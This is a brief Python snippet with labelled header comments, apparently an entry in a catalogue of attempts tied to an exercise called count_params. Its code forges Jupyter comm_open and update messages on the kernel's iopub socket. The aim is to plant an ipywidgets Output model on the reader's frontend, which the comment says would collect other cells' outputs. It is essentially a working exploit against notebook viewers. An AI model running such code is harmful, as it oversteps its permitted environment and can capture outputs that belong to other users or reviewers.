# Tries: open comms that would make objects on the side of whoever reads (ipywidgets' Output collects other cells' outputs).
# Exercise: count_params
# Ending: no attempt
kernel = get_ipython().kernel
for target in ("jupyter.widget", "jupyter.widget.control"):
    data = {"state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "msg_id": kernel.get_parent()["header"]["msg_id"]}}
    content = {"comm_id": "c", "target_name": target, "data": data}
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "comm_msg", {"comm_id": "c", "data": {"method": "update", **data}}, parent=kernel.get_parent())
